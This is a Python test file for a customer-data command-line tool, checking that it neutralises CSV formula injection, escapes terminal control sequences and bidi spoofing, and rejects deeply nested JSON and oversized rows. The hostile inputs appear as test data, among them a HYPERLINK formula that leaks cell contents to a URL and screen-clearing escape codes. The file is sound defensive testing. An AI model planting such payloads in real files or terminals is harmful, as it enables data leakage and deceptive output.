"""Hostile data through the command line: formulas, control characters, deep JSON, huge rows.

Each test runs ``python -m paddle_async.cli`` as a subprocess against a FakePaddle that the test
seeds directly, or the embedded ``--fake``.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import sys
from pathlib import Path
from typing import Any

import attrs
import pytest
from cli_files import ENTRY_POINT, cli_env, read_csv, run_on_terminal, summary, write_csv
from program_runs import program_env, run_program

from paddle_async.cli._output import to_json
from paddle_async.cli._rows import (
    MAX_ROW_CHARS,
    _csv_rows,
    _jsonl_rows,
    neutralise_formula,
    restore_formula,
)
from paddle_async.cli._terminal import Step, make_progress, printable
from paddle_async.testing import FakePaddle


@attrs.frozen
class Run:
    returncode: int
    stdout: str
    stderr: str


@pytest.fixture(params=["orjson", "stdlib"])
def decoder_env(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> str:
    """The decoder the command line uses: orjson as installed, or hidden so stdlib json runs."""
    if request.param == "orjson":
        pytest.importorskip("orjson")
        return ""
    shim = tmp_path_factory.mktemp("no-orjson")
    (shim / "orjson.py").write_text('raise ImportError("hidden for this test")\n')
    return str(shim)


async def run_cli(*args: str, key: str | None = None, pythonpath: str = "") -> Run:
    """Run the command line without blocking the loop that serves the test's FakePaddle."""
    env = {name: value for name, value in os.environ.items() if name != "PADDLE_API_KEY"}
    if key is not None:
        env["PADDLE_API_KEY"] = key
    if pythonpath:
        env["PYTHONPATH"] = os.pathsep.join(filter(None, [pythonpath, env.get("PYTHONPATH")]))
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "paddle_async.cli",
        *args,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        env=env,
    )
    stdout, stderr = await asyncio.wait_for(process.communicate(), 120)
    assert process.returncode is not None
    return Run(process.returncode, stdout.decode(), stderr.decode())


async def on_fake(fake: FakePaddle, *args: str, pythonpath: str = "") -> Run:
    """Run the command line against ``fake``."""
    return await run_cli(
        "--base-url", fake.base_url, *args, key=fake.api_key, pythonpath=pythonpath
    )


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def nested(depth: int) -> dict[str, Any]:
    value: dict[str, Any] = {}
    for _ in range(depth - 1):
        value = {"a": value}
    return value


# CSV formula injection

FORMULAS = [
    '=HYPERLINK("http://example.com/x?"&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\tTabbed",
    "\rReturned",
    "'=Already quoted",
    "''Two quotes",
]
HARMLESS = ["'s-Hertogenbosch", "Ada Lovelace", "'", "1-2", "x=y"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_get_a_leading_quote_and_lose_it_again(cell: str) -> None:
    """A formula's first character gets a ' in front; restoring gives the cell back."""
    assert ("'" + cell, cell) == (neutralise_formula(cell), restore_formula("'" + cell))


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_cells_are_left_alone(cell: str) -> None:
    """Cells that no spreadsheet runs, a leading apostrophe in a name included, stay as they are."""
    assert (cell, cell) == (neutralise_formula(cell), restore_formula(cell))


async def seed_formulas(fake: FakePaddle) -> dict[str, str]:
    """Store customers whose names and e-mails look like formulas; return e-mail -> name."""
    people = {f"formula{n}@example.com": name for n, name in enumerate(FORMULAS + HARMLESS)}
    people["=cmd@example.com"] = "E-mail starts with ="
    for email, name in people.items():
        fake.add_customer(email=email, name=name)
    return people


async def test_export_neutralises_formulas_and_import_restores_them(
    fake: FakePaddle, tmp_path: Path
) -> None:
    """export CSV quotes formula cells; importing the file back changes nothing."""
    people = await seed_formulas(fake)
    path = tmp_path / "all.csv"
    exported = await on_fake(fake, "customers", "export", str(path))
    assert 0 == exported.returncode, exported.stderr
    rows = read_csv(path)
    shown = {row["email"]: row["name"] for row in rows}
    assert {neutralise_formula(e): neutralise_formula(n) for e, n in people.items()} == shown
    assert "'=HYPERLINK(" in path.read_text(encoding="utf-8")
    imported = await on_fake(fake, "customers", "import", str(path))
    assert (0, "") == (imported.returncode, imported.stderr)
    values = summary(imported.stdout)
    assert (str(len(people)), "0", "0") == (
        values["unchanged"],
        values["created"],
        values["updated"],
    )
    assert people == {c["email"]: c["name"] for c in fake.customers()}


async def test_list_csv_neutralises_and_csv_raw_keeps_the_data(
    fake: FakePaddle, tmp_path: Path
) -> None:
    """list --format csv quotes formula cells; --csv-raw writes them exactly and imports back."""
    people = await seed_formulas(fake)
    listed = await on_fake(fake, "customers", "list", "--format", "csv")
    assert {neutralise_formula(e): neutralise_formula(n) for e, n in people.items()} == {
        row["email"]: row["name"] for row in csv_rows(listed.stdout)
    }
    raw = await on_fake(fake, "customers", "list", "--format", "csv", "--csv-raw")
    assert people == {row["email"]: row["name"] for row in csv_rows(raw.stdout)}
    path = tmp_path / "raw.csv"
    path.write_text(raw.stdout, encoding="utf-8", newline="")
    imported = await on_fake(fake, "customers", "import", "--csv-raw", str(path))
    assert (0, str(len(people))) == (imported.returncode, summary(imported.stdout)["unchanged"])


async def test_get_csv_neutralises(fake: FakePaddle) -> None:
    """Single-customer CSV output follows the same rule."""
    stored = fake.add_customer(email="one@example.com", name="=1+1")
    got = await on_fake(fake, "customers", "get", stored["id"], "--format", "csv")
    assert "'=1+1" == csv_rows(got.stdout)[0]["name"]


async def test_failed_rows_file_is_neutralised_and_reimports(
    fake: FakePaddle, tmp_path: Path
) -> None:
    """A failed row keeps its values: written safe to open, read back to the same values."""
    path = tmp_path / "in.csv"
    write_csv(path, [["email", "name"], ["not-an-email", "=2*3"]])
    result = await on_fake(fake, "customers", "import", str(path))
    assert 1 == result.returncode
    failed_path = tmp_path / "in.failed.csv"
    failed = read_csv(failed_path)
    assert [("not-an-email", "'=2*3")] == [(row["email"], row["name"]) for row in failed]
    failed_path.write_text(
        failed_path.read_text(encoding="utf-8").replace("not-an-email", "fixed@example.com"),
        encoding="utf-8",
    )
    again = await on_fake(fake, "customers", "import", str(failed_path))
    assert (0, "=2*3") == (
        again.returncode,
        (fake.find_by_email("fixed@example.com") or {})["name"],
    )


# Terminal escapes

HOSTILE_NAMES = [
    "Title\x1b]0;owned\x07",
    "Clear\x1b[2Jscreen",
    "Over\rwrite",
    "Tab\there",
    "New\nline",
    "Del\x7f C1\x9b2J",
    "Bidi \u202egnp.exe",
]
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


def shows_control(output: str) -> bool:
    """Tell whether any line of ``output`` holds a control character."""
    return any(CONTROL.search(line) for line in output.split("\n"))


def test_printable_escapes_every_control_character() -> None:
    """C0, DEL, C1, bidi controls and line separators become visible escapes; text stays."""
    assert "a\\x1b]0;t\\x07 \\x1b[2J\\r\\t\\n\\x7f\\x9b \\u202e\\u2066\\u2028 café 中" == printable(
        "a\x1b]0;t\x07 \x1b[2J\r\t\n\x7f\x9b \u202e\u2066\u2028 café 中"
    )
    assert all(not CONTROL.search(printable(chr(code))) for code in range(0x3000))


class Terminal(io.StringIO):
    """A stream that says it is a terminal."""

    def isatty(self) -> bool:
        return True


def test_progress_escapes_its_line() -> None:
    """The progress bar shows control characters of its label and unit as escapes."""
    pytest.importorskip("rich")
    stream = Terminal()
    progress = make_progress(quiet=False, pacing=None, stream=stream)
    progress.update(Step("Reading \x1b[2J", 1, 2, "rows\x07"))
    progress.close()
    drawn = stream.getvalue()
    assert ["Reading \\x1b[2J", "rows\\x07"] == [
        text for text in ("Reading \\x1b[2J", "rows\\x07") if text in drawn
    ]
    assert ("\x1b[2J" not in drawn, "\x07" not in drawn) == (True, True)


async def test_table_and_get_show_control_characters_escaped(fake: FakePaddle) -> None:
    """Table output, get and the one-line errors show every hostile name escaped, one line each."""
    ids = [
        fake.add_customer(email=f"h{n}@example.com", name=name)["id"]
        for n, name in enumerate(HOSTILE_NAMES)
    ]
    table = await on_fake(fake, "customers", "list")
    assert 0 == table.returncode
    assert 1 + len(HOSTILE_NAMES) == len(table.stdout.split("\n")) - 1  # header + one per row
    assert not shows_control(table.stdout)
    assert "Clear\\x1b[2Jscreen" in table.stdout
    for customer_id, name in zip(ids, HOSTILE_NAMES, strict=True):
        got = await on_fake(fake, "customers", "get", customer_id)
        assert not shows_control(got.stdout)
        assert f"name               {printable(name)}" in got.stdout.split("\n")


async def test_credit_balances_table_escapes_unknown_codes(fake: FakePaddle) -> None:
    """A currency code the SDK does not know is shown, escaped, in the balances table."""
    customer_id = fake.add_customer(email="c@example.com")["id"]
    fake.add_credit_balance(customer_id, "X\x1b[2J", available="1.00")
    result = await on_fake(fake, "customers", "credit-balances", customer_id)
    assert 0 == result.returncode
    assert not shows_control(result.stdout)
    assert result.stdout.split("\n")[1].startswith("X\\x1b[2J")


async def test_machine_formats_keep_the_exact_data(fake: FakePaddle) -> None:
    """JSON Lines and CSV hold the names exactly (CSV only quotes a formula's first character)."""
    for n, name in enumerate(HOSTILE_NAMES):
        fake.add_customer(email=f"h{n}@example.com", name=name)
    jsonl = await on_fake(fake, "customers", "list", "--format", "jsonl")
    assert sorted(HOSTILE_NAMES) == sorted(
        json.loads(line)["name"] for line in jsonl.stdout.splitlines()
    )
    listed = await on_fake(fake, "customers", "list", "--format", "csv")
    assert sorted(neutralise_formula(n) for n in HOSTILE_NAMES) == sorted(
        row["name"] for row in csv_rows(listed.stdout)
    )


FORMULA_NAME = "@SUM(1)\x1b[2J"


@pytest.mark.parametrize(("command", "raw"), [("list", False), ("list", True), ("get", False)])
async def test_csv_on_a_terminal_shows_control_characters_escaped(
    fake: FakePaddle, command: str, raw: bool
) -> None:
    """CSV written to a terminal shows control characters as escapes, as tables do (with
    --csv-raw too), one line per customer; a formula still gets its ' first."""
    names = [*HOSTILE_NAMES, FORMULA_NAME]
    ids = [
        fake.add_customer(email=f"h{n}@example.com", name=name)["id"]
        for n, name in enumerate(names)
    ]
    args = ["customers", "list"]
    if command == "get":
        names, args = names[-1:], ["customers", "get", ids[-1]]
    args += ["--format", "csv", "--csv-raw"] if raw else ["--format", "csv"]
    run = await asyncio.to_thread(
        run_on_terminal,
        *("--base-url", fake.base_url, *args),
        env=cli_env(fake.api_key),
        stdout_on_terminal=True,
        entry_point=True,
    )
    # The terminal turns each \n into \r\n; CSV ends its lines with \r\n itself.
    lines = [line.removesuffix("\r") for line in run.terminal.split("\n")]
    assert (0, [""]) == (run.returncode, lines[1 + len(names) :])
    assert [] == [line for line in lines if CONTROL.search(line)]
    shown = [row["name"] for row in csv_rows("\n".join(lines))]
    expected = [printable(name if raw else neutralise_formula(name)) for name in names]
    assert sorted(expected) == sorted(shown)


async def test_json_escapes_c1_and_bidi_controls_and_decodes_exactly(fake: FakePaddle) -> None:
    """JSON and JSON Lines, in a pipe too, hold no raw control character (C1 and bidi
    controls are \\u escapes) and decode to the exact names."""
    ids = [
        fake.add_customer(email=f"h{n}@example.com", name=name)["id"]
        for n, name in enumerate(HOSTILE_NAMES)
    ]
    env = program_env(PADDLE_API_KEY=fake.api_key)
    names: dict[str, list[str]] = {}
    for fmt in ("json", "jsonl"):
        args = ("--base-url", fake.base_url, "customers", "list", "--format", fmt)
        run = await run_program(ENTRY_POINT, *args, env=env, cwd=Path.cwd())
        assert (0, None) == (run.returncode, CONTROL.search(run.stdout.replace("\n", "")))
        assert ("\\u202e" in run.stdout, "\\u009b" in run.stdout) == (True, True)
        items = (
            json.loads(run.stdout)
            if fmt == "json"
            else map(json.loads, run.stdout.rstrip("\n").split("\n"))
        )
        names[fmt] = sorted(item["name"] for item in items)
    for customer_id in ids:
        args = ("--base-url", fake.base_url, "customers", "get", customer_id, "--format", "json")
        run = await run_program(ENTRY_POINT, *args, env=env, cwd=Path.cwd())
        assert (0, None) == (run.returncode, CONTROL.search(run.stdout.replace("\n", "")))
        names.setdefault("get", []).append(json.loads(run.stdout)["name"])
    assert {fmt: sorted(HOSTILE_NAMES) for fmt in ("json", "jsonl", "get")} == {
        fmt: sorted(found) for fmt, found in names.items()
    }


def test_to_json_escapes_every_control_character_and_round_trips() -> None:
    """Every character printable escapes is escaped in JSON too, which decodes to the same."""
    text = "".join(chr(code) for code in range(0x3000))
    encoded = to_json({"name": text}, indent=2)
    assert (None, {"name": text}) == (
        CONTROL.search(encoded.replace("\n", "")),
        json.loads(encoded),
    )


async def test_error_details_from_the_server_are_escaped(fake: FakePaddle) -> None:
    """A server's error detail with escape sequences and newlines stays one escaped line."""
    body = {
        "error": {"type": "request_error", "code": "bad_request", "detail": "No\x1b[2J\nway\r"},
        "meta": {"request_id": "req-1"},
    }
    fake.faults.fail_next(1, 400, body=json.dumps(body).encode(), content_type="application/json")
    result = await on_fake(fake, "customers", "list")
    assert 1 == result.returncode
    assert [
        "paddle-async: error: HTTP 400 bad_request: No\\x1b[2J\\nway\\r (request_id=req-1)"
    ] == result.stderr.splitlines()


async def test_import_messages_and_summary_escape_the_file_name(
    fake: FakePaddle, tmp_path: Path
) -> None:
    """A file name with control characters is escaped in row messages and the summary."""
    path = tmp_path / "odd\x1b[2Jname.csv"
    path.write_text("email,name\nnot-an-email,X\n", encoding="utf-8")
    result = await on_fake(fake, "customers", "import", str(path))
    assert 1 == result.returncode
    assert not shows_control(result.stdout + result.stderr)
    assert "odd\\x1b[2Jname.csv row 2: invalid row" in result.stderr
    assert "Import of " in result.stdout


# Deep JSON


async def test_export_of_a_1000_deep_customer_is_one_line(
    fake: FakePaddle, tmp_path: Path, decoder_env: str
) -> None:
    """export meets custom_data 1,000 deep as one error line, with orjson or the stdlib."""
    fake.add_customer(email="plain@example.com")
    customer_id = fake.add_customer(email="deep@example.com")["id"]
    stored = fake._store.get(customer_id)  # add_customer deep-copies, which recurses
    assert stored is not None
    stored.custom_data = nested(1000)
    for fmt in ("jsonl", "csv"):
        result = await on_fake(
            fake, "customers", "export", str(tmp_path / f"all.{fmt}"), pythonpath=decoder_env
        )
        assert 1 == result.returncode
        assert 1 == len(result.stderr.splitlines()), result.stderr
        assert result.stderr.startswith("paddle-async: error: ")
        assert "nested" in result.stderr
        assert "deep" in result.stderr


async def test_deep_json_in_input_is_a_row_error(tmp_path: Path) -> None:
    """custom_data 5,000 deep in a CSV cell, a JSON line or --custom-data is one row's problem."""
    deep = '{"a":' * 4999 + "{}" + "}" * 4999
    over = json.dumps(nested(101))
    path = tmp_path / "deep.csv"
    write_csv(
        path,
        [
            ["email", "custom_data"],
            ["a@example.com", deep],
            ["b@example.com", over],
            ["c@example.com", "{}"],
        ],
    )
    result = await run_cli("--fake", "customers", "import", str(path))
    assert 1 == result.returncode
    assert "Traceback" not in result.stderr
    assert "deep.csv row 2: invalid row: custom_data: not valid JSON" in result.stderr
    assert "deep.csv row 3: invalid row: custom_data: nested more than 100 levels" in result.stderr
    assert "1" == summary(result.stdout)["created"]
    lines = tmp_path / "deep.jsonl"
    lines.write_text(deep + "\n" + '{"email": "c@example.com"}\n', encoding="utf-8")
    result = await run_cli("--fake", "customers", "import", str(lines))
    assert "deep.jsonl row 1: invalid row: not valid JSON" in result.stderr
    assert "1" == summary(result.stdout)["created"]
    created = await run_cli(
        "--fake", "customers", "create", "--email", "d@example.com", "--custom-data", deep
    )
    assert 2 == created.returncode
    assert [
        "paddle-async customers create: error: invalid input: --custom-data: not valid JSON"
    ] == (created.stderr.splitlines())


# Huge rows


def big(n: int) -> str:
    return "x" * n


async def test_an_oversized_csv_field_fails_its_row_only(tmp_path: Path) -> None:
    """A field over csv's default limit, or a row over the import's, fails that row alone."""
    path = tmp_path / "big.csv"
    write_csv(
        path,
        [
            ["email", "name", "custom_data"],
            ["a@example.com", "A", ""],
            ["b@example.com", "B", json.dumps({"blob": big(200_000)})],  # over 131,072
            ["c@example.com", "C", json.dumps({"blob": big(MAX_ROW_CHARS)})],
            ["d@example.com", "D\nwith a newline", json.dumps({"blob": big(MAX_ROW_CHARS)})],
            ["e@example.com", "E", ""],
        ],
    )
    result = await run_cli("--fake", "customers", "import", str(path))
    assert 1 == result.returncode
    assert "Traceback" not in result.stderr
    too_long = "invalid row: longer than 1,048,576 characters, the most an import reads in one row"
    assert [f"{path} row 4: {too_long}", f"{path} row 5: {too_long}"] == [
        line for line in result.stderr.splitlines() if "longer than" in line
    ]
    values = summary(result.stdout)
    assert ("3", "2", "5") == (values["created"], values["invalid rows"], values["rows read"])
    failed = read_csv(tmp_path / "big.failed.csv")
    assert [("", "4"), ("", "5")] == [(row["email"], row["source_row"]) for row in failed]


async def test_an_oversized_json_line_fails_its_row_only(tmp_path: Path) -> None:
    """A JSON line over the limit goes to the failed-rows file with its number; the rest import."""
    path = tmp_path / "big.jsonl"
    lines = [
        json.dumps({"email": "a@example.com"}),
        json.dumps({"email": "b@example.com", "custom_data": {"blob": big(MAX_ROW_CHARS)}}),
        json.dumps({"email": "c@example.com"}),
    ]
    path.write_text("\n".join(lines), encoding="utf-8")  # the last line has no line end
    result = await run_cli("--fake", "customers", "import", str(path))
    assert f"big.jsonl row 2: invalid row: longer than {MAX_ROW_CHARS:,}" in result.stderr
    assert "2" == summary(result.stdout)["created"]
    failed = (tmp_path / "big.failed.jsonl").read_text(encoding="utf-8").splitlines()
    assert [2] == [json.loads(line)["source_row"] for line in failed]


async def test_a_file_that_is_one_giant_line_is_one_line_error(tmp_path: Path) -> None:
    """A CSV file that is one endless line is refused in one line, naming the header row."""
    path = tmp_path / "giant.csv"
    path.write_text("email" + big(3 * MAX_ROW_CHARS), encoding="utf-8")
    result = await run_cli("--fake", "customers", "import", str(path))
    assert (
        1,
        [
            f"paddle-async: error: {path} row 1: the header is longer than 1,048,576 "
            "characters, the most an import reads in one row"
        ],
    ) == (
        result.returncode,
        result.stderr.splitlines(),
    )


async def test_a_short_row_keeps_its_error_in_the_error_column(tmp_path: Path) -> None:
    """A row with too few cells is written back padded, its error under the error column."""
    path = write_csv(tmp_path / "short.csv", [["email", "name"], ["x@example.com"]])
    result = await run_cli("--fake", "customers", "import", str(path))
    assert 1 == result.returncode
    assert [("x@example.com", "", "invalid row: 1 cells, but the header has 2", "2")] == [
        (row["email"], row["name"], row["error"], row["source_row"])
        for row in read_csv(tmp_path / "short.failed.csv")
    ]


class CountingReads(io.StringIO):
    """A text file that records the size of every read."""

    def __init__(self, text: str) -> None:
        super().__init__(text, newline="")
        self.longest = 0

    def readline(self, size: int | None = -1, /) -> str:
        line = super().readline(size)
        self.longest = max(self.longest, len(line))
        return line


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_no_read_holds_more_than_one_row(fmt: str) -> None:
    """A 5 MB line is skipped in pieces: no read returns more than the row limit plus one."""
    text = "email\na@example.com\n" + big(5 * MAX_ROW_CHARS) + "\nb@example.com\n"
    file = CountingReads(text)
    rows = list(_csv_rows(file) if fmt == "csv" else _jsonl_rows(file))
    assert [1, 2, 3, 4] == [number for number, _ in rows]
    assert None is rows[2][1]
    assert file.longest <= MAX_ROW_CHARS + 1


def test_quoted_newlines_keep_row_numbers() -> None:
    """Rows after a too-long quoted field spread over lines keep their line numbers."""
    text = (
        'email,name\n"a@example.com","A"\n"b@example.com","'
        + (big(MAX_ROW_CHARS // 2) + "\n") * 3
        + '"\n"c@example.com","C"\n'
    )
    rows = list(_csv_rows(CountingReads(text)))
    assert [
        (1, ["email", "name"]),
        (2, ["a@example.com", "A"]),
        (3, None),
        (7, ["c@example.com", "C"]),
    ] == rows
